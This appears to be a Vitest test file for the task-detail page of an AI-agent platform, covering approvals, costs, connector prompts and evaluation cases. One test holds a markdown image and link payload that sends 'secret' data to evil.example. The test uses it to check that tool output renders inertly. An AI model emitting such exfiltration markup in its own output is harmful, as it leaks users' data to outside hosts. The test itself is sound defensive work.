import { screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it } from 'vitest'
import { open, platform } from '../../test/page.tsx'
import TaskPage from './TaskPage.tsx'

const at = '2026-01-01T00:00:00Z'
const summary = { taskId: 't1', contextId: 'c1', agent: 'helper', version: '2', owner: 'person:builder', team: 'sales', state: 'COMPLETED', createdAt: at, statusAt: at }
const turn = (amount: string) => ({ model: 'qwen3', inputTokens: 100, outputTokens: 5, cost: { amount, currency: 'EUR' }, millis: 1500 })

describe('TaskPage', () => {
  it('tells who, version, model, tokens, cost, arguments and decision', async () => {
    platform({
      'GET /api/v1/tasks/t1': { summary, task: {}, children: [] },
      'GET /api/v1/tasks/t1/steps': {
        items: [
          { seq: 1, kind: 'received', at, body: { from: 'person:builder', message: { parts: [{ text: 'Pay it' }] } } },
          { seq: 2, kind: 'model-turn', at, body: turn('0.0100') },
          { seq: 3, kind: 'approval-asked', at, body: { callId: 'c', tool: 'shop/pay', arguments: { sum: 7 }, approvalId: 'a' } },
          { seq: 4, kind: 'approval-decided', at, body: { approvalId: 'a', decision: 'granted', by: 'person:approver', reason: 'Right' } },
          { seq: 5, kind: 'model-turn', at, body: turn('0.0005') },
        ],
        nextPageToken: '',
      },
    })
    open('/tasks/:id', '/tasks/t1', <TaskPage />)
    expect(await screen.findByText('Message from builder')).toBeTruthy()
    expect(screen.getByText('0.0105 EUR')).toBeTruthy()
    expect(screen.getByText('200 in, 10 out')).toBeTruthy()
    expect(screen.getByText('sum')).toBeTruthy()
    expect(screen.getByText('7')).toBeTruthy()
    expect(screen.getByText('by approver · Right')).toBeTruthy()
    expect(screen.queryByRole('button', { name: /Approve/ })).toBeNull()
  })

  it('shows what a tool answers as text: nothing in it is loaded or can be followed', async () => {
    const hostile = '![stolen](https://evil.example/log?data=secret) <img src="https://evil.example/x"> [click](https://evil.example)'
    platform({
      'GET /api/v1/tasks/t1': { summary, task: {}, children: [] },
      'GET /api/v1/tasks/t1/steps': {
        items: [
          { seq: 1, kind: 'tool-intent', at, body: { callId: 'c', tool: 'web/read', arguments: { url: hostile } } },
          { seq: 2, kind: 'tool-outcome', at, body: { callId: 'c', tool: 'web/read', status: 'ok', content: [{ type: 'text', text: hostile }], millis: 3 } },
        ],
        nextPageToken: '',
      },
    })
    open('/tasks/:id', '/tasks/t1', <TaskPage />)
    expect((await screen.findAllByText(/stolen/)).length).toBeGreaterThan(0)
    expect(document.querySelectorAll('img, iframe, script, object, [src]')).toHaveLength(0)
    for (const link of document.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^\/(?!\/)/)
  })

  it('lets one decide in place while it waits', async () => {
    platform({
      'GET /api/v1/tasks/t1': { summary: { ...summary, state: 'WORKING' }, task: {}, children: [] },
      'GET /api/v1/tasks/t1/steps': {
        items: [{ seq: 1, kind: 'approval-asked', at, body: { callId: 'c', tool: 'shop/pay', arguments: {}, approvalId: 'a' } }],
        nextPageToken: '',
      },
    })
    open('/tasks/:id', '/tasks/t1', <TaskPage />, { name: 'approver', roles: ['approver'], teams: ['sales'] })
    expect(await screen.findByRole('button', { name: 'Approve shop/pay' })).toBeTruthy()
  })

  it('tells who asked that somebody else decides', async () => {
    platform({
      'GET /api/v1/tasks/t1': { summary: { ...summary, state: 'WORKING' }, task: {}, children: [] },
      'GET /api/v1/tasks/t1/steps': {
        items: [{ seq: 1, kind: 'approval-asked', at, body: { callId: 'c', tool: 'shop/pay', arguments: {}, approvalId: 'a' } }],
        nextPageToken: '',
      },
    })
    open('/tasks/:id', '/tasks/t1', <TaskPage />)
    expect(await screen.findByText(/You asked for this, so somebody else decides/)).toBeTruthy()
    expect(screen.queryByRole('button', { name: 'Approve shop/pay' })).toBeNull()
  })

  it.each([
    { what: 'nothing else', then: [], links: 1 },
    { what: 'that it is made', then: [{ kind: 'connection-made', body: { askId: 'k', connector: 'tickets', by: 'person:builder' } }], links: 0 },
    { what: 'that nobody connects it any more', then: [{ kind: 'connection-withdrawn', body: { askId: 'k', connector: 'tickets', reason: 'the connector was removed' } }], links: 0 },
    { what: 'that the call was told no', then: [{ kind: 'tool-outcome', body: { callId: 'c', tool: 'tickets/list', status: 'denied', reason: 'not-connected', millis: 0 } }], links: 0 },
    { what: 'that the task was stopped', then: [{ kind: 'ended', body: { state: 'TASK_STATE_CANCELED' } }], links: 0 },
    { what: 'what became of another call', then: [{ kind: 'tool-outcome', body: { callId: 'd', tool: 'web/read', status: 'ok', millis: 0 } }], links: 1 },
  ])('links to where a server is connected while it is told $what', async ({ then, links }) => {
    const asked = { kind: 'connection-asked', body: { callId: 'c', tool: 'tickets/list', askId: 'k', connector: 'tickets', reason: 'Connect it.', url: 'https://tandem/connections?connect=tickets' } }
    platform({
      'GET /api/v1/tasks/t1': { summary, task: {}, children: [] },
      'GET /api/v1/tasks/t1/steps': { items: [asked, ...then].map((step, index) => ({ seq: index + 1, at, ...step })), nextPageToken: '' },
    })
    open('/tasks/:id', '/tasks/t1', <TaskPage />)
    expect(await screen.findByText('Asked to connect tickets')).toBeTruthy()
    expect(screen.queryAllByRole('link', { name: 'Connect it' })).toHaveLength(links)
  })

  it('makes a case of what was asked', async () => {
    const definition = { metadata: { name: 'helper' }, spec: { evaluation: { cases: [] } } }
    const calls = platform({
      'GET /api/v1/tasks/t1': { summary: { ...summary, state: 'FAILED' }, task: {}, children: [] },
      'GET /api/v1/tasks/t1/steps': {
        items: [{ seq: 1, kind: 'received', at, body: { from: 'person:builder', message: { parts: [{ text: 'Pay it' }] } } }, { seq: 2, kind: 'ended', at, body: { state: 'TASK_STATE_FAILED' } }],
        nextPageToken: '',
      },
      'GET /api/v1/agents/helper/draft': definition,
      'PUT /api/v1/agents/helper/draft': definition,
    })
    open('/tasks/:id', '/tasks/t1', <TaskPage />)
    await userEvent.click(await screen.findByRole('button', { name: 'Save as evaluation case' }))
    await userEvent.type(screen.getByRole('textbox', { name: 'Words of the answer' }), 'paid')
    await userEvent.click(screen.getByRole('button', { name: 'Save case' }))
    await expect
      .poll(() => calls.find((call) => call.method === 'PUT')?.body)
      .toMatchObject({ spec: { evaluation: { cases: [{ input: 'Pay it', expect: [{ contains: 'paid' }] }] } } })
  })

  it('says so when the task is not there', async () => {
    platform({})
    open('/tasks/:id', '/tasks/t9', <TaskPage />)
    expect(await screen.findByText('The task cannot be shown')).toBeTruthy()
  })
})
